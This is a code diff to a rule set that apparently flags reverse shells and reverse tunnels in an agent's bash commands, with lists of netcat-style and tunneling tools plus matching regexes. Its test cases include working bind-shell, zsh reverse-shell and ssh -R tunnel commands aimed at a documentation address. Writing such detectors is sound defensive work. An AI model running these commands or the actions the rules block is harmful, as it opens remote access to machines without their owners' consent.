@@ -5,9 +5,15 @@ import { SHELLS } from './programs.ts';
 const bash = (script: string) => ({ tool: 'bash', arguments: { script } }) as const;
 const type = 'reverse_shell';
 
-const NETCAT = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'nc32', 'rustcat', 'rcat', 'pwncat', 'cryptcat', 'sbd', 'dbd', 'powercat', 'nc6', 'gnc', 'goncat', 'dc'];
+const NETCAT = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'nc32', 'rustcat', 'rcat', 'pwncat', 'cryptcat', 'sbd', 'dbd', 'powercat', 'nc6', 'gnc', 'goncat', 'dc', 'socket', 'ncat6'];
 const isShell = (name: string): boolean => SHELLS.has(name) || /^(?:cmd|powershell|pwsh)$/.test(name);
 const namesShell = (text: string): boolean => /(?:^|[\s/\\"'=:])(?:(?:ba|z|k|da|a|fi|c|tc|mk)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|sh\.exe|bash\.exe|\$SHELL|busybox|python3?|perl)(?:$|[\s"',;])/i.test(text);
+
+/** An address by number that is not of this machine or a private network. */
+const BARE_HOST = /(?:^|[\s@/=:])(?!10\.|127\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)(?:\d{1,3}\.){3}\d{1,3}(?=$|[\s:/])/;
+
+/** A shell's file, alone or with `-i`. */
+const SHELL_FILE = /^(?:\/(?:usr\/)?bin\/)(?:ba|z|da|k|a)?sh(?:\s+-[a-z]+)?$/;
 
 /** A program that talks to another machine and passes on what it reads and writes. */
 function talks({ name, args }: Command): boolean {
@@ -62,14 +68,17 @@ export const reverseShellRules: readonly CommandRule[] = [
     severity: 'critical',
     sees: 'netcat or a relative that runs a program for whoever is on the line',
     programs: NETCAT,
-    literals: ['\bnc ', 'nc.', 'ncat', 'netcat', 'rustcat', 'rcat ', 'pwncat', 'cryptcat', 'sbd ', 'powercat', ',-e', 'nc$', 'nc\t'],
+    literals: ['\bnc ', 'socket -', 'nc.', 'ncat', 'netcat', 'rustcat', 'rcat ', 'pwncat', 'cryptcat', 'sbd ', 'powercat', ',-e', 'nc$', 'nc\t'],
     positive: bash('nc -nlvp 4444 -e /bin/sh'),
     nearMiss: bash('nc -zv db.internal 5432; ncat --version'),
     source: 'https://gtfobins.github.io/gtfobins/nc/',
     holds: ({ name }, words) => {
       if (name === 'dc') return false;
+      // busybox, toybox and the like take the program behind their options.
+      if (words.some((word) => SHELL_FILE.test(word))) return true;
       return words.some((word, index) => {
         const value = words[index + 1] ?? '';
+        if (name === 'socket' && /^-[a-z]*p$/.test(word)) return namesShell(value);
         if (/^--(?:exec|sh-exec|lua-exec)/.test(word)) return true;
         if (/^-[a-zA-Z]*e$/.test(word) && value !== '') return name !== 'powercat' || namesShell(value);
         if (/^-[a-zA-Z]*[cr]$/.test(word) || /^-e./.test(word)) return namesShell(value) || namesShell(word.slice(2)) || (/c$/.test(word) && /^["']?\//.test(value));
@@ -114,6 +123,49 @@ export const reverseShellRules: readonly CommandRule[] = [
     positive: bash('zsh -c "zmodload zsh/net/tcp && ztcp 198.51.100.4 4444 && zsh >&\\$REPLY 2>&\\$REPLY 0>&\\$REPLY"'),
     nearMiss: bash('zsh -c "zmodload zsh/datetime && echo $EPOCHSECONDS"'),
     holds: (_, words) => words.length > 0,
+  },
+  {
+    id: 'shell.reverse-tunnel',
+    type,
+    severity: 'high',
+    sees: 'this machine’s login or remote desktop made reachable from outside through a tunnel',
+    programs: ['ssh', 'autossh', 'ngrok', 'bore', 'lt', 'localtunnel', 'frpc', 'rathole', 'gost', 'iox', 'ew', 'nps', 'npc', 'pinggy', 'zrok', 'tailscale', 'loophole', 'cloudflared', 'dbclient', 'plink', 'inlets', 'earthworm', 'wstunnel', 'iodine', 'dnscat', 'dnscat2', 'dnscat2-client', 'ptunnel', 'ptunnel-ng', 'icmpsh', 'revsocks', 'rpivot', 'stowaway', 'venom'],
+    literals: ['\bssh -', 'ngrok', 'bore local', 'localtunnel', 'frpc', 'rathole', 'gost ', 'pinggy', 'zrok', 'loophole', 'cloudflared', 'plink', 'dbclient', 'inlets', 'wstunnel', 'iodine', 'dnscat', 'ptunnel', 'icmpsh', 'revsocks', 'rpivot', 'npc -'],
+    positive: bash('ssh -fN -R 2222:localhost:22 x@198.51.100.4'),
+    nearMiss: bash('ssh -L 5433:localhost:5432 deploy@staging -N; ngrok http 3000; cloudflared tunnel --url http://localhost:8080'),
+    source: 'MITRE ATT&CK T1572',
+    holds: ({ name }, words) => {
+      const text = lineOf(words);
+      switch (name) {
+        case 'ssh':
+        case 'autossh':
+        case 'plink':
+        case 'dbclient':
+          return /(?:^|\s)-[a-zA-Z]*R\s?(?:[\w.*[\]]{0,60}:)?\d{1,5}:(?:localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0):(?:22|3389|5900|445|5985|5986|23|2375)\b/.test(text) || (/(?:^|\s)-[a-zA-Z]*R\s?(?:[\w.*[\]]{0,60}:)?\d{1,5}(?:\s|:)/.test(text) && BARE_HOST.test(text) && /(?:^|\s)-[a-zA-Z]*[fN]/.test(text));
+        case 'ngrok':
+          return /^(?:tcp|start\b.*tcp)\s.*\b(?:22|3389|5900|445|5985|2375|3306|5432|27017|6379)\b/.test(text);
+        case 'bore':
+          return /^local\s+(?:22|3389|5900|445)\b/.test(text);
+        case 'cloudflared':
+          return /(?:ssh|rdp|smb|tcp):\/\/(?:localhost|127\.)/.test(text);
+        case 'tailscale':
+          return /^up\b.*--auth-?key.*--ssh|^up\b.*--ssh.*--auth-?key/.test(text);
+        case 'pinggy':
+        case 'lt':
+        case 'localtunnel':
+        case 'zrok':
+        case 'loophole':
+        case 'inlets':
+        case 'wstunnel':
+          return BARE_HOST.test(text) || /\b(?:tcp|ssh)\b.*\b(?:22|3389|5900)\b/.test(text);
+        case 'frpc':
+        case 'rathole':
+        case 'gost':
+          return BARE_HOST.test(text) || /\/(?:tmp|dev\/shm)\/|\/\.[a-z]/.test(text);
+        default:
+          return BARE_HOST.test(text) || (/^(?:iodine|dnscat|ptunnel|icmpsh|revsocks|rpivot|stowaway|earthworm)/.test(name) && words.length > 0);
+      }
+    },
   },
   {
     id: 'shell.remote-terminal',
